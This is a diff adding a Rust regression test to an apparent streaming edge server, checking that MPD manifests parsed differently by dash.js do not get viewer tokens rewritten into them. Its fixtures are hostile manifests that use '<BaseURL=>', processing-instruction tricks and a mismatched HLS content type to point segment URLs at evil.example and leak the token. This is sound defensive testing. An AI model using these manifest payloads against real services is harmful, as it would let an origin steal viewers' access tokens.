@@ -548,3 +548,54 @@ async fn playlist_uris_a_player_reads_as_another_host_get_no_token() {
     }
     assert!(body.contains(&format!("seg2.ts?hdnts={t}")), "{body}");
 }
+
+/// Bug: the MPD token rewrite read markup otherwise than dash.js's parser, which a hostile
+/// origin used to hide a `BaseURL` on another host and have relative segment URLs under it
+/// carry the viewer's token there: `<BaseURL=>` (a BaseURL to dash.js, another element here),
+/// `<?x ><BaseURL>...` (dash.js ends the processing instruction at its first `>`). And an MPD
+/// served as `application/vnd.apple.mpegurl` was rewritten line by line as a playlist, the
+/// token put at the end of lines dash.js reads as other-host URLs. Such documents now go as
+/// the origin wrote them, without the token.
+#[tokio::test]
+async fn an_mpd_read_otherwise_by_players_gets_no_token() {
+    use crate::support::token::{raw_token, token_edge, token_for};
+
+    let origin = Origin::start().await;
+    let template = "<Period><AdaptationSet mimeType=\"video/mp4\"><SegmentTemplate \
+initialization=\"init.mp4\" media=\"$Number$.m4s\" duration=\"2\" timescale=\"1\"/>\
+<Representation id=\"v\" bandwidth=\"1\"/></AdaptationSet></Period></MPD>";
+    let head =
+        "<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\">";
+    let documents = [
+        (
+            "/v/eq.mpd",
+            format!("{head}<BaseURL=>https://evil.example/v/</BaseURL>{template}"),
+            "application/dash+xml",
+        ),
+        (
+            "/v/pi.mpd",
+            format!("{head}<?x ><BaseURL>https://evil.example/v/</BaseURL><?y ?>{template}"),
+            "application/dash+xml",
+        ),
+        (
+            "/v/as-hls.mpd",
+            format!(
+                "{head}<Period><AdaptationSet><SegmentTemplate initialization=\"https://evil.example/init.mp4\n\" \
+media=\"https://evil.example/$Number$.m4s\n\"/></AdaptationSet></Period></MPD>"
+            ),
+            "application/vnd.apple.mpegurl",
+        ),
+    ];
+    for (path, body, ct) in &documents {
+        origin.script(path, Script::ok(body.clone()).header("content-type", ct));
+    }
+    let edge = token_edge(&origin, raw_token()).await;
+    let t = token_for("/v/*", None);
+    for (path, body, _) in &documents {
+        let r = edge.get(&format!("{path}?hdnts={t}")).await;
+        assert_eq!(r.status.as_u16(), 200, "{path}");
+        let got = String::from_utf8_lossy(&r.body);
+        assert!(!got.contains("hdnts="), "{path}: the token went in:\n{got}");
+        assert_eq!(got, *body, "{path}: as the origin wrote it");
+    }
+}
